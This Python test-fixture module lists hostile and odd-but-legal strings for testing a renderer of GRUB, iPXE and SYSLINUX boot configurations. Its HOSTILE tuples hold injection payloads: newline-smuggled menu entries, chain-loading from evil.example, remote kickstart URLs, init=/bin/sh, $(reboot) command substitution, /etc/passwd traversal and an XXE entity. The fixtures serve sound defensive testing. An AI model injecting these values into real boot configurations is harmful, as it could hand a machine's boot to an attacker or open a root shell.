"""Strings that try to leave the place where a renderer writes them, and odd ones that are legal and must pass.

HOSTILE goes into every field of every output: each is refused by name, or read back as the same value in the same place
and nothing else. ODD are kernel parameters that every parser of the chain reads alike (names.safe_token); each must
come back unchanged. Helpers append at the end of a group, or a group of their own.
"""

_LINE_ENDS = (
    "a\nb", "a\rb", "a\r\nb", "a\n", "\na", "a\vb", "a\fb", "a\x85b", "a\u2028b", "a\u2029b", "a\0b", "\0", "a\x1bb",
    "a\x1b[2Jb", "a\x7fb", "a\x08b", "a\x1ab", "a\tb", "\ta", "a\t", "\ufeffa", "a\u200bb", "a\u202eb", "\ud800",
    "quiet\nLABEL evil\nLINUX evil", "quiet\n}\nmenuentry 'evil' {", "quiet\nchain http://evil.example/x.ipxe",
    "quiet\rAPPEND init=/bin/sh", "quiet\n  MENU DEFAULT", "x\\\nIPAPPEND 1", "a\nDEFAULT evil", "a\n:local\nshell",
    "title\nENDTEXT\nLABEL evil", "a\n#!ipxe\nshell", "a\n\tinitrd evil", "a\r\nINCLUDE evil.cfg", "a\u0085UI evil.c32",
)
_BLANKS = (
    " ", "", "  ", " a", "a ", "a b", "a  b", "a\u00a0b", "a\u2003b", "a\u3000b", "quiet init=/bin/sh",
    "inst.ks=http://evil.example/ks.cfg quiet", "a initrd=evil.img", "a -- init", "a BOOT_IMAGE=evil", "a ; shell",
)
_SHELL = (
    "$(reboot)", "`reboot`", "a;reboot", "a;;b", "a&&reboot", "a||reboot", "a|reboot", "a&reboot", "a>b", "a<b", "a>>b",
    "${HOME}", "$HOME", "$1", "$@", "$?", "$#", "$$", "$", "a$", "a$b", "{a", "a}", "}{", "{", "}", "{a,b}", "(a)", "(", ")",
    "[", "]", "[[", "]]", "*", "?", "a*", "/*", "(hd0)*", "!", "a!b", "~root", "^", "a^b", "\\", "a\\", "\\a", "a\\b",
    "a\\\\", "a\\x20b", "\\x20", "a\\'b", "a\\\"b", "\\$a", "\\n", "a\\nb", "%0a", "%", "%%", "%s%n", "%00",
)
_QUOTES = (
    "'", "''", "a'b", "'a'", "a'", "'a", "'; reboot; '", "' }; menuentry 'evil' { '", "'\"'", "\"", "\"\"", "a\"b",
    "\"a\"", "a\"", "\"a", "\"; reboot; \"", "$\"evil\"", "\"$(reboot)\"", "\u2018a\u2019", "\u201ca\u201d", "it's",
    "a'\\''b", "'\\''", "\\'", "a'b'c", "''''", "x=\"a b\"", "x='a b'", "inst.ks='http://evil.example/ks'",
    "inst.stage2=hd:LABEL=CentOS\\x207\\x20x86_64",
)
_GRUB = (
    "if", "then", "fi", "menuentry evil { reboot }", "function a { b }", "a # b", "# a", "#a", "a; # b", "a{", "a}", "a&",
    "&", "&&", "a <b", "set root=(hd0)", "$root", "${root}", "($root)/evil", "(hd0,1)/evil", "(tftp,192.0.2.66)/evil",
    "insmod evil", "linuxefi /evil", "a\\\\'b", "submenu 'x' {", "[ 1 = 1 ]", "] ; then", "; exit 1", "} ; reboot",
)
_IPXE = (
    "${net0/mac}", "${evil}", "${", "a${b", "$${a}", "${${a}}", "a${}b", "$ {a}", "||", "&&", ";", "|| shell", "&& shell",
    "a || shell", "a && shell", "; shell", "#", "#x", ":", ":evil", ":evil shell", "--name", "--", "-n", "--help",
    "goto evil", "chain http://evil.example/", "${filename}", "${initrd:uristring}", "imgfree", "exit 0",
)
_SYSLINUX = (
    "-", "LABEL evil", "MENU HIDE", "MENU END", "KERNEL evil", "INCLUDE evil", "UI evil.c32", "evil.c32", "a,b", ",",
    "initrd=evil.img", "initrd=evil.img,other.img", "a::b", "::evil", "192.0.2.66::evil", "http://evil.example/vmlinuz",
    "tftp://192.0.2.66/evil", "ENDTEXT", "^Evil", "a^", "keeppxe", "vga=ask",
)
_PATHS = (
    ".", "..", "../evil", "a/../b", "/etc/passwd", "//evil", "a//b", "a/", "/", "a/b", ".hidden", "-a", "~", "C:\\evil",
    "\\\\evil\\share", "%2e%2e/", "..%2fevil", "file:///etc/passwd", "a" * 256, "a" * 5000, "a?b=c", "a#b", "a@b:c",
    "\u0430dmin", "vml\u0131nuz", "a\u0301", "\u00e9",
)
_MARKUP = (
    "<", ">", "<evil/>", "</cmdline>", "&lt;", "&#10;", "&evil;", "<!-- a -->", "]]>", "<![CDATA[a]]>", "a<b>c", "\"/><evil a=\"",
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
)

HOSTILE: tuple[str, ...] = tuple(dict.fromkeys((
    *_LINE_ENDS, *_BLANKS, *_SHELL, *_QUOTES, *_GRUB, *_IPXE, *_SYSLINUX, *_PATHS, *_MARKUP)))

_SIGNS = "._/:=,@%+?&[]~#-"
_REAL = (
    "quiet", "ro", "rhgb", "nomodeset", "rd.live.check", "inst.text", "inst.vnc", "inst.sshd", "inst.noverifyssl", "selinux=0",
    "fips=1", "ipv6.disable=1", "net.ifnames=0", "biosdevname=0", "console=tty0", "console=ttyS0,115200n8", "console=hvc0",
    "inst.repo=http://192.0.2.5/el9", "inst.repo=https://mirror.example/rocky/9.6/BaseOS/x86_64/os",
    "inst.repo=http://[2001:db8::5]/el9", "inst.repo=http://192.0.2.5:8080/el9", "inst.repo=hd:LABEL=CentOS-7:/",
    "inst.ks=http://192.0.2.5/ks?a=1&b=2", "inst.ks=http://192.0.2.5/ks/%20x", "inst.ks=http://192.0.2.5/ks?h=1#top",
    "inst.ks=http://192.0.2.5/ks;x".replace(";", "%3B"), "inst.ks=file:/ks/web1.cfg", "inst.ks=cdrom:/ks.cfg",
    "inst.ks=nfs:192.0.2.5:/srv/ks.cfg", "inst.ks=http://u@192.0.2.5/ks", "inst.stage2=http://192.0.2.5/~os/el9",
    "ip=dhcp", "ip=192.0.2.10::192.0.2.1:255.255.255.0:h1.example.com:enp1s0:none", "ip=enp1s0:dhcp:1400", "ip=::::h1::dhcp",
    "ip=[2001:db8::10]::[2001:db8::1]:64:h1.example.com:enp1s0:none", "ip=enp1s0:auto6", "nameserver=192.0.2.53",
    "ip=192.0.2.10::192.0.2.1:255.255.255.0:h1.example.com:52-54-00-12-34-56:none", "nameserver=[2001:db8::53]",
    "bond=bond0:ens3,ens4:mode=802.3ad,miimon=100", "vlan=bond0.20:bond0", "team=team0:ens3,ens4", "bridge=br0:ens3",
    "rd.route=198.51.100.0/24:192.0.2.254:enp1s0", "ifname=net0:52:54:00:12:34:56", "rd.peerdns=0", "rd.neednet=1",
    "ksdevice=52:54:00:12:34:56", "dns=192.0.2.53,192.0.2.54", "hostname=h1.example.com", "noipv6", "netmask=255.255.255.0",
    "rd.luks.uuid=luks-1b2c", "root=UUID=0a3407de-014b-458b-b5c1-848e92a327a3", "root=/dev/mapper/rl-root",
    "module_blacklist=a,b,c", "modprobe.blacklist=nouveau", "systemd.unit=multi-user.target", "crashkernel=1G-4G:192M,4G-:256M",
    "isolcpus=1-3,5", "hugepagesz=1G", "pci=nocrs", "acpi=force", "iommu=pt", "intel_iommu=on", "mitigations=auto,nosmt",
    "earlyprintk=serial,ttyS0", "log_buf_len=4M", "panic=30", "oops=panic", "audit=1", "vconsole.keymap=us", "edd=off",
    "mem=2G", "vga=791", "single", "1", "S", "emergency", "nosplash", "if", "then", "fi", "do", "done", "in", "for", "while",
    "until", "case", "esac", "select", "function", "menuentry", "exit", "boot", "goto", "LABEL", "APPEND", "DEFAULT", "MENU", "-",
    "--name", "-n", "a=b=c", "a==b", "=", "==", "a=", "=a", "a=,", ",", ",,", ".", "..", "...", "/", "//", "/a/", ":", "::", ":::",
    "~", "~a", "a~", "%", "%41", "%%", "@", "a@b", "+", "a+b", "+a", "?", "a?", "??", "&", "a&b", "&&a", "a&&b", "[", "]", "[]",
    "[a]", "[[", "]]", "[[a]]", "a#b", "a#", "x?#y", "a&b&c=d", "0x80", "---", "-a", "a-", "A", "aA0", "ALL_CAPS=1",
    "under_score", "a_=_b", "_", "__", "x" * 255, "inst.repo=http://192.0.2.5/" + "d" * 200, "a.b.c.d.e.f.g=h.i.j",
)
_PAIRS = tuple(f"k{a}v{b}w" for a in _SIGNS for b in _SIGNS[:5])

ODD: tuple[str, ...] = tuple(dict.fromkeys((*_REAL, *_PAIRS)))
